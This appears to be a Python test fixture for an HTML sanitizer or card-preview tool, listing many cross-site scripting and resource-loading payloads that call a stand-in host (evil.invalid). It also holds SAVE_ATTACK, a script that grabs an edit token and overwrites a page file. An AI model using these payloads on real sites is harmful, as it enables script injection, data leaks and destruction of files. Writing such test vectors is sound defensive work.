"""Markup that tries to run a script, to send a request or to leave the page, each in its own way.

Every one of them would set a flag on the page, open a dialog, or ask https://evil.invalid for something.
"""

JS = "top.__ran=1;parent.__ran=1;window.__ran=1;alert(1);new Image().src='https://evil.invalid/js'"
# The same without a quote in it, for places inside quotes.
BARE = "top.__ran=1;alert(1);fetch(`https://evil.invalid/js`)"
URL = "https://evil.invalid"

_SCRIPTS = [
    f"<script>{JS}</script>",
    f"<SCRIPT>{JS}</SCRIPT>",
    f"<script/x>{JS}</script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<script src={URL}/a.js></script>",
    f"<script type=module>{JS}</script>",
    f"<script async src='data:text/javascript,{BARE}'></script>",
    f"<noscript><p title=\"</noscript><script>{BARE}</script>\">",
    f"</title><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f"</style><script>{JS}</script>",
    f"--><script>{JS}</script>",
    f"]]><script>{JS}</script>",
    f"</iframe><script>{JS}</script>",
    f"</template></script><script>{JS}</script>",
    f"<template><script>{JS}</script></template>",
    f"<template shadowrootmode=open><script>{JS}</script><img src=x onerror=\"{BARE}\"></template>",
    f"<xmp><script>{JS}</script></xmp><script>{JS}</script>",
]

_HANDLERS = [
    f"<img src=x onerror=\"{BARE}\">",
    f"<img src=x onerror={BARE.replace(' ', '')}>",
    f"<IMG SRC=x OnErRoR=\"{BARE}\">",
    f"<img/src=x/onerror=\"{BARE}\">",
    f"<img src=x\nonerror\n=\"{BARE}\">",
    f"<img src=x onerror=&#116;op.__ran=1;alert(1)>",
    f"<body onload=\"{BARE}\">",
    f"<svg onload=\"{BARE}\"></svg>",
    f"<details open ontoggle=\"{BARE}\">x</details>",
    f"<video src=x onerror=\"{BARE}\"></video>",
    f"<audio src=x onerror=\"{BARE}\"></audio>",
    f"<video><source src=x onerror=\"{BARE}\"></video>",
    f"<input autofocus onfocus=\"{BARE}\">",
    f"<div tabindex=0 autofocus onfocusin=\"{BARE}\">x</div>",
    f"<select autofocus onfocus=\"{BARE}\"></select>",
    f"<marquee onstart=\"{BARE}\">x</marquee>",
    f"<div style='animation:a 1s' onanimationstart=\"{BARE}\">x</div><style>@keyframes a{{}}</style>",
    f"<div onpointerenter=\"{BARE}\" onmousemove=\"{BARE}\" style='position:fixed;inset:0'>x</div>",
    f"<p oncontentvisibilityautostatechange=\"{BARE}\" style='content-visibility:auto'>x</p>",
    f"<button popovertarget=p onbeforetoggle=\"{BARE}\">x</button><div popover id=p>x</div>",
    f"\" onmouseover=\"{BARE}\" autofocus onfocus=\"{BARE}\" x=\"",
    f"' onmouseover='{BARE}' autofocus onfocus='{BARE}' x='",
    f"`onmouseover={BARE}`",
]

_LINKS = [
    f"<a href=\"javascript:{BARE}\">x</a>",
    f"<a href=\"JaVaScRiPt:{BARE}\">x</a>",
    f"<a href=\"java&#9;script:{BARE}\">x</a>",
    f"<a href=\"&#1;javascript:{BARE}\">x</a>",
    f"<a href=\"  javascript:{BARE}\">x</a>",
    f"<a href=\"&#106;avascript&colon;{BARE}\">x</a>",
    f"<a href=\"data:text/html,<script>{BARE}</script>\">x</a>",
    f"<a href=\"vbscript:alert(1)\">x</a>",
    f"<a href=\"{URL}/away\" target=_top>x</a>",
    f"<a href=\"{URL}/away\" target=_blank>x</a>",
    f"<a href=\"{URL}/away\" ping=\"{URL}/ping\">x</a>",
    f"<a href=\"{URL}/file\" download>x</a>",
    f"<span data-link=\"javascript:{BARE}\" data-actiontype=browser>x</span>",
    f"<map name=m><area shape=default href=\"javascript:{BARE}\"></map><img usemap=#m src=x>",
    f"[x](javascript:{BARE.replace('(', '%28').replace(')', '%29')})",
    f"[x](data:text/html;base64,PHNjcmlwdD50b3AuX19yYW49MTwvc2NyaXB0Pg==)",
    f"<javascript:{BARE}>",
    f"![x]({URL}/markdown.png)",
    f"[x]: javascript:{BARE}\n[x]",
]

_DOCUMENTS = [
    f"<meta http-equiv=refresh content='0;url={URL}/refresh'>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{BARE}\">",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    f"<base href={URL}/ target=_top><img src=base.png>",
    f"<link rel=stylesheet href={URL}/a.css>",
    f"<link rel=preload as=image href={URL}/preload.png>",
    f"<link rel=prefetch href={URL}/prefetch>",
    f"<link rel=icon href={URL}/icon.png>",
    f"<iframe src={URL}/frame></iframe>",
    f"<iframe src=\"javascript:{BARE}\"></iframe>",
    f"<iframe srcdoc=\"&lt;script&gt;{BARE}&lt;/script&gt;\"></iframe>",
    f"<iframe sandbox='allow-scripts allow-same-origin allow-top-navigation' srcdoc=\"<script>{BARE}</script>\"></iframe>",
    f"<frameset><frame src={URL}/frame></frameset>",
    f"<object data={URL}/object></object>",
    f"<object data=\"data:text/html,<script>{BARE}</script>\"></object>",
    f"<embed src={URL}/embed>",
    f"<embed src=\"javascript:{BARE}\">",
    f"<applet code={URL}/a></applet>",
    f"<portal src={URL}/portal></portal>",
    f"<form action={URL}/form><input name=a value=b><button autofocus>x</button></form>",
    f"<form action=\"javascript:{BARE}\"><input type=submit id=s></form><label for=s>x</label>",
    f"<form><button formaction=\"javascript:{BARE}\">x</button></form>",
    f"<isindex action=\"javascript:{BARE}\" type=image>",
    "<form id=document><input name=body><input name=querySelector></form>",
    "<img name=currentScript><img name=body><form name=location>",
]

_FOREIGN = [
    f"<svg><script>{BARE}</script></svg>",
    f"<svg><script href={URL}/svg.js></script></svg>",
    f"<svg><a xlink:href=\"javascript:{BARE}\"><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin=\"{BARE}\" attributeName=x dur=1s></svg>",
    f"<svg><a><animate attributeName=href values=\"javascript:{BARE}\"/><text y=20>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{BARE}</script></svg>#x\"></use></svg>",
    f"<svg><foreignObject><iframe srcdoc=\"<script>{BARE}</script>\"></iframe></foreignObject></svg>",
    f"<svg><image href={URL}/svg.png></image></svg>",
    f"<svg><style>@import '{URL}/svg.css';</style></svg>",
    f"<math><maction actiontype=statusline xlink:href=\"javascript:{BARE}\">x</maction></math>",
    f"<math href=\"javascript:{BARE}\">x</math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=\"{BARE}\"></style></mglyph></table></mtext></math>",
    f"<math><annotation-xml encoding=text/html><script>{BARE}</script></annotation-xml></math>",
    f"<svg></p><style><a id=\"</style><img src=x onerror='{BARE}'>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=\"{BARE}\">",
    f"<svg><desc><noscript></desc><img src=x onerror=\"{BARE}\"></noscript></svg>",
    f"<svg><title><template><style></title><img src=x onerror=\"{BARE}\"></style></template></svg>",
    f"<table><td><select><mglyph><svg><mtext><textarea><a title=\"</textarea><img src=x onerror='{BARE}'>\">",
    f"<![CDATA[<img src=x onerror=\"{BARE}\">]]>",
    f"<!--><img src=x onerror=\"{BARE}\">-->",
    f"<!--[if gte IE 4]><script>{BARE}</script><![endif]-->",
    f"<?xml version=\"1.0\"?><?xml-stylesheet href=\"javascript:{BARE}\"?>",
    f"<a title=\"<!--\"><img src=x onerror=\"{BARE}\">--></a>",
]

_STYLES = [
    f"<style>@import url({URL}/import.css);</style>",
    f"<style>body{{background:url({URL}/bg.png)}}</style>",
    f"<style>@font-face{{font-family:f;src:url({URL}/f.woff)}}*{{font-family:f}}</style>",
    f"<div style=\"background:url({URL}/bg.png)\">x</div>",
    f"<div style=\"background:url(javascript:{BARE})\">x</div>",
    f"<div style=\"width:expression({BARE})\">x</div>",
    f"<div style=\"-moz-binding:url({URL}/x.xml#x)\">x</div>",
    f"<input value=a style=\"background-image:image-set('{URL}/set.png' 1x)\">",
    "<div style=\"position:fixed;inset:0;z-index:2147483647;background:red\">Your session has ended</div>",
    "<style>*{display:none!important}[data-frame]{position:fixed;inset:0}</style>",
    f"<video poster={URL}/poster.png></video>",
    f"<audio src={URL}/a.mp3 autoplay></audio>",
    f"<img srcset=\"{URL}/set.png 1x\">",
    f"<picture><source srcset={URL}/source.png><img></picture>",
    f"<input type=image src={URL}/input.png>",
    f"<table background={URL}/table.png><tr><td background={URL}/cell.png>x</table>",
    f"<track src={URL}/t.vtt><video><track default src={URL}/v.vtt></video>",
    "{{#title}}{{{title}}}{{/title}}{{>cards/card-base}}{{=<% %>=}}",
    "{{<cards/card-base}}{{$content}}x{{/content}}{{/cards/card-base}}",
    "\x00<scr\x00ipt>top.__ran=1</script>".replace("\x00", "\ufffd"),
]

# Saves a file, as the pages of `cardproof serve` do.
SAVE_ATTACK = (
    "fetch('/.live/edit?page=cards/v000.html').then(r=>r.json()).then(o=>fetch('/.live/save',{method:'POST',headers:"
    "{'Content-Type':'application/json','Cardproof-Token':o.token},body:JSON.stringify({file:o.file,hash:o.hash,source:'gone'})}))")
# The same, in the ways of which one would be enough. No picture is in it, for a block without its pictures is not shown.
SAVES = f"<script>{SAVE_ATTACK}</script><svg onload=\"{SAVE_ATTACK}\"></svg><form action=/.live/save method=post><button>x</button></form>"

VECTORS = _SCRIPTS + _HANDLERS + _LINKS + _DOCUMENTS + _FOREIGN + _STYLES
